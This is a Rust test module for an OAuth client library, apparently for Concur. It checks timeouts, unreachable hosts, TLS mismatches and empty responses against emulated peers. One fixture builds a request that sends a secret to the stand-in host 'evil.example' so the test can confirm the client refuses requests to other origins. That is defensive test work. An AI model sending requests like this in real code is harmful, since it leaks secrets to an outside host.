//! Peers that are not there, say nothing, or speak something else.

use std::io::{Read, Write};
use std::net::{Shutdown, TcpListener};
use std::thread;
use std::time::Duration;

use concur_oauth::{
    BaseUrl, Error, Exchange, InputError, ResponseContext, ResponseError, SecretBody, Stage, http,
};
use concur_oauth_emulator::Server;

use crate::columns::Transport;
use crate::peers::{build, builder, client, flow, peer, read_request, url};

pub(crate) fn silent_handshake_ends_at_the_deadline<T: Transport>() {
    // Nothing; the beginning of a handshake record; a drip that would go on for a minute.
    for (bytes, drip) in [(0, false), (7, false), (3600, true)] {
        let (base_url, peer) = peer(1, move |_, mut stream| {
            let record = [0x16, 0x03, 0x03, 0x3f, 0xff, 0x02, 0x00, 0x3f, 0xfb];
            for byte in record.into_iter().chain(std::iter::repeat(0)).take(bytes) {
                if stream.write_all(&[byte]).is_err() {
                    return;
                }
                if drip {
                    thread::sleep(Duration::from_millis(20));
                }
            }
            while stream.read(&mut [0; 1024]).is_ok_and(|read| read > 0) {}
        });
        let base_url = base_url.to_string().replace("http:", "https:");
        let timeout = Duration::from_secs(1);
        let client = build::<T>(builder::<T>().timeout(timeout));
        let error = client.send(flow(&base_url.parse().unwrap())).unwrap_err();
        assert!(
            matches!(
                error,
                Error::Timeout {
                    stage: Stage::Handshake,
                    ..
                }
            ),
            "{error:?}"
        );
        assert!(!error.may_have_reached_concur());
        peer.join().unwrap();
    }
}

pub(crate) fn unreachable_host_is_an_error<T: Transport>() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    drop(listener);
    for scheme in ["http", "https"] {
        let base_url = format!("{scheme}://{address}").parse().unwrap();
        let error = build::<T>(builder::<T>())
            .send(flow(&base_url))
            .unwrap_err();
        assert!(
            matches!(
                error,
                Error::Unreachable {
                    stage: Stage::Connect,
                    ..
                }
            ),
            "{error:?}"
        );
        assert!(!error.may_have_reached_concur());
        assert!(error.retry_after().is_some());
    }
    let nowhere = "https://does-not-exist.invalid".parse().unwrap();
    let error = build::<T>(builder::<T>().timeout(Duration::from_secs(5)))
        .send(flow(&nowhere))
        .unwrap_err();
    assert!(
        matches!(
            error,
            Error::Unreachable {
                stage: Stage::Lookup,
                ..
            } | Error::Timeout {
                stage: Stage::Lookup,
                ..
            }
        ),
        "{error:?}"
    );
}

/// An exchange whose request leads elsewhere.
struct Astray(BaseUrl);

impl Exchange for Astray {
    type Output = ();

    fn base_url(&self) -> &BaseUrl {
        &self.0
    }

    fn is_resendable(&self) -> bool {
        true
    }

    fn into_request(self) -> Result<http::Request<SecretBody>, InputError> {
        let request = http::Request::get("https://evil.example/?secret");
        Ok(request.body(SecretBody::empty()).unwrap())
    }

    fn parse(_: http::Response<&[u8]>, _: &ResponseContext) -> Result<(), ResponseError> {
        Ok(())
    }
}

pub(crate) fn request_to_another_origin_is_refused<T: Transport>() {
    let server = Server::start().unwrap();
    let client: T = client(&server);
    let error = client.send(Astray(url(&server))).unwrap_err();
    assert!(matches!(error, Error::Input(_)), "{error:?}");
    assert!(!error.may_have_reached_concur());
    assert_eq!(server.connections(), 0);
}

pub(crate) fn tls_and_plain_http_do_not_mix<T: Transport>() {
    let plain = Server::builder().plain_http().start().unwrap();
    let base_url = plain.url().replace("http:", "https:").parse().unwrap();
    let error = client::<T>(&plain).send(flow(&base_url)).unwrap_err();
    assert!(matches!(error, Error::Tls { .. }), "{error:?}");
    assert!(!error.may_have_reached_concur());
    assert_eq!(plain.request_count(), 0);

    let tls = Server::start().unwrap();
    let base_url = tls.url().replace("https:", "http:").parse().unwrap();
    let error = client::<T>(&tls).send(flow(&base_url)).unwrap_err();
    assert!(
        matches!(error, Error::Protocol(_) | Error::Interrupted { .. }),
        "{error:?}"
    );
}

pub(crate) fn empty_response_is_an_error<T: Transport>() {
    let (base_url, peer) = peer(1, |_, mut stream| {
        stream.shutdown(Shutdown::Write).unwrap();
        read_request(&mut stream);
        let _ = stream.flush();
    });
    let error = build::<T>(builder::<T>())
        .send(flow(&base_url))
        .unwrap_err();
    assert!(matches!(error, Error::Interrupted { .. }), "{error:?}");
    peer.join().unwrap();
}

/// A listener whose queue is full drops what more comes, as a firewall does; on Linux.
pub(crate) fn connect_that_never_completes_ends_at_the_deadline<T: Transport>() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    let patience = Duration::from_millis(200);
    let queue: Vec<_> = (0..10_000)
        .map_while(|_| std::net::TcpStream::connect_timeout(&address, patience).ok())
        .collect();
    assert!(queue.len() < 10_000, "the queue has no end");
    for scheme in ["http", "https"] {
        let client = build::<T>(builder::<T>().timeout(Duration::from_secs(1)));
        let base_url = format!("{scheme}://{address}").parse().unwrap();
        let error = client.send(flow(&base_url)).unwrap_err();
        assert!(
            matches!(
                error,
                Error::Timeout {
                    stage: Stage::Connect,
                    ..
                }
            ),
            "{error:?}"
        );
        assert!(!error.may_have_reached_concur());
    }
}
